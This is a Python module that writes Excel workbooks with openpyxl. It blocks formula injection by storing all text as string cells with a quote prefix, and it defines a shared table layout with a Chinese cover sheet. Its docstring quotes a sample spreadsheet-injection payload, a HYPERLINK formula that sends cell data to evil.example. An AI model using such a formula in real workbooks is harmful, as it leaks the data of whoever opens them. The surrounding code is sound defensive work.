"""The one way a workbook becomes bytes: text stays text (no formula injection).

openpyxl turns any str that starts with "=" into a formula (data_type "f") and a str equal
to an error code ("#N/A" ...) into an error, so a dispute reason such as
``=HYPERLINK("http://evil.example/leak?"&B2,"Open")`` would run in the officer's Excel.
OWASP's advice for CSV is to prefix a leading = + - @ TAB CR with an apostrophe; in a
workbook that apostrophe would become part of the value, and readers (openpyxl, pandas, a
re-import) would no longer get the text that was written. So instead:

- every cell whose value is a str is stored as a string cell (data_type "s", written by
  openpyxl as an inline string), which Excel and LibreOffice show and read back as exactly
  that text and never evaluate;
- when the text starts with one of OWASP's characters (or their full-width forms) the cell
  also gets Excel's own "quote prefix" flag (the apostrophe as cell style, not as content),
  so that a person who edits the cell and presses Enter keeps text instead of a formula.

Numbers, dates and booleans are left as they are. A workbook that means to hold a formula
must write it as an openpyxl formula object (``openpyxl.worksheet.formula.ArrayFormula``),
never as a str, so that it is visible in the code; none of ours does.

Every workbook also has one shape, made here (write_table, describe): a first sheet 说明 that
says what the workbook is and as of which day (also the document's title and every printed
page's header), then one table per sheet with its header in row 1, frozen and repeated on
printed pages, data from row 2 with no gap, numbers and dates kept as such with a number
format (mu ``0.00``, money ``#,##0.00``), columns as wide as their text with a CJK character
counted as two. The title is not a row above the header: a sheet that is one table sorts,
filters and re-imports as it is.
"""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any
from unicodedata import east_asian_width

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_LEAD = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def as_text(wb: Workbook) -> None:
    """Make every str cell of every sheet a plain string cell (see the module docstring)."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
                    if cell.value.startswith(FORMULA_LEAD):
                        cell.quotePrefix = True


def to_bytes(wb: Workbook) -> bytes:
    """The .xlsx file of ``wb``, its text cells made safe first. Every workbook writer
    returns through here."""
    as_text(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


# --- the one layout every workbook's tables share -----------------------------------------

MU = "0.00"  # mu: two decimals, as every surface shows them (geo.units.mu2)
MONEY = "#,##0.00"
COUNT = "0"
DATE = "yyyy-mm-dd"
DATETIME = "yyyy-mm-dd hh:mm:ss"
ABOUT = "说明"  # the first sheet: what the workbook is and as of when

_BOLD = Font(bold=True)
_HEAD_FILL = PatternFill("solid", fgColor="DDEBF7")
_HEAD_ALIGN = Alignment(wrap_text=True, vertical="center")
_MIN_WIDTH, _MAX_WIDTH = 6, 60


def text_width(value: Any) -> int:
    """How many columns ``value`` takes as shown: a CJK (wide or full-width) character two."""
    return sum(2 if east_asian_width(ch) in ("W", "F") else 1 for ch in str(value))


def _shown(value: Any, fmt: str | None) -> str:
    if isinstance(value, dt.datetime):
        return "0000-00-00 00:00:00"
    if isinstance(value, dt.date):
        return "0000-00-00"
    if _is_number(value) and fmt in (MU, MONEY):
        return f"{value:,.2f}" if fmt == MONEY else f"{value:.2f}"
    return "" if value is None else str(value)


def write_table(
    ws: Worksheet,
    headers: Sequence[str],
    rows: Iterable[Sequence[Any]],
    formats: Sequence[str | None] = (),
    totals: Iterable[Sequence[Any]] = (),
) -> None:
    """A table on an empty sheet: the header in row 1 (bold, frozen, repeated on every printed
    page), the data from row 2 with no gap, then ``totals`` rows in bold. ``formats`` gives
    each column's number format (MU, MONEY, COUNT or None; dates are DATE or DATETIME): numbers
    and dates stay numbers and dates. Columns are as wide as their text (CJK counted twice)."""
    ws.append(list(headers))
    for cell in ws[1]:
        cell.font, cell.fill, cell.alignment = _BOLD, _HEAD_FILL, _HEAD_ALIGN
    widths = [text_width(h) for h in headers]
    last = [1]  # the row last written (ws.max_row scans every cell: asked per cell, quadratic)

    def put(row: Sequence[Any], bold: bool) -> None:
        ws.append([float(v) if isinstance(v, Decimal) else v for v in row])
        last[0] += 1
        for col, value in enumerate(row):
            fmt = formats[col] if col < len(formats) else None
            cell = ws.cell(row=last[0], column=col + 1)
            if isinstance(value, dt.datetime):
                cell.number_format = DATETIME
            elif isinstance(value, dt.date):
                cell.number_format = DATE
            elif fmt and _is_number(value):
                cell.number_format = fmt
            if bold:
                cell.font = _BOLD
            if col >= len(widths):
                widths.append(0)
            widths[col] = max(widths[col], text_width(_shown(value, fmt)))

    for row in rows:
        put(row, False)
    for row in totals:
        put(row, True)
    for i, w in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(i)].width = min(max(w + 2, _MIN_WIDTH), _MAX_WIDTH)
    ws.freeze_panes = "A2"
    ws.print_title_rows = "1:1"


def _is_number(value: Any) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def describe(wb: Workbook, title: str, facts: Sequence[tuple[str, Any]]) -> None:
    """Say what the workbook is and as of when, where a reader meets it: a first sheet 说明
    (``title`` and ``facts``: label, value), the document's properties, and the header of
    every printed page. The data sheets keep row 1 for their header and row 2 for data."""
    ws = wb.create_sheet(ABOUT, 0)
    write_table(ws, ["项目", "内容"], [["报表", title], *facts])
    for cell in ws["B"][1:]:
        cell.alignment = Alignment(wrap_text=True, vertical="top")
    for sheet in wb.worksheets:
        sheet.sheet_view.tabSelected = sheet is ws
        sheet.oddHeader.center.text = _header_text(f"{title} · {sheet.title}")
        sheet.oddFooter.center.text = "&P / &N"
    wb.active = 0
    wb.properties.title = title[:250]
    wb.properties.creator = "landmap"


def _header_text(value: str) -> str:
    """Text for a print header: '&' starts a code there, so it is doubled."""
    return value[:200].replace("&", "&&")


# --- a table too long to hold: streamed ---------------------------------------------------


def stream_table(
    path,
    title: str,
    facts: Sequence[tuple[str, Any]],
    sheet: str,
    headers: Sequence[str],
    rows: Iterable[Sequence[Any]],
    formats: Sequence[str | None] = (),
) -> None:
    """The workbook of describe() and write_table() (说明 first, then one table) written to
    ``path`` row by row (openpyxl's write-only mode), for tables of any length: memory stays
    bounded. Text is made safe cell by cell as to_bytes does; columns are as wide as their
    header (the rows are not known when the widths must be set)."""
    wb = Workbook(write_only=True)
    for name, head, body, fmts in (
        (ABOUT, ["项目", "内容"], [["报表", title], *facts], ()),
        (sheet, headers, rows, formats),
    ):
        ws = wb.create_sheet(name)
        for i, h in enumerate(head, start=1):
            width = max(text_width(h) + 2, 12 if _nth(fmts, i - 1) else 0)
            ws.column_dimensions[get_column_letter(i)].width = min(max(width, 10), _MAX_WIDTH)
        ws.freeze_panes = "A2"
        ws.print_title_rows = "1:1"
        ws.HeaderFooter.oddHeader.center.text = _header_text(f"{title} · {name}")
        ws.HeaderFooter.oddFooter.center.text = "&P / &N"
        ws.append([_streamed_cell(ws, h, None, head=True) for h in head])
        for row in body:
            ws.append([_streamed_cell(ws, v, _nth(fmts, c)) for c, v in enumerate(row)])
    wb.properties.title = title[:250]
    wb.properties.creator = "landmap"
    wb.save(path)


def _nth(formats: Sequence[str | None], i: int) -> str | None:
    return formats[i] if i < len(formats) else None


def _streamed_cell(ws, value: Any, fmt: str | None, head: bool = False) -> WriteOnlyCell:
    cell = WriteOnlyCell(ws, float(value) if isinstance(value, Decimal) else value)
    if isinstance(value, str):
        cell.data_type = "s"
        if value.startswith(FORMULA_LEAD):
            cell.quotePrefix = True
    if isinstance(value, dt.datetime):
        cell.number_format = DATETIME
    elif isinstance(value, dt.date):
        cell.number_format = DATE
    elif fmt and _is_number(value):
        cell.number_format = fmt
    if head:
        cell.font, cell.fill, cell.alignment = _BOLD, _HEAD_FILL, _HEAD_ALIGN
    return cell
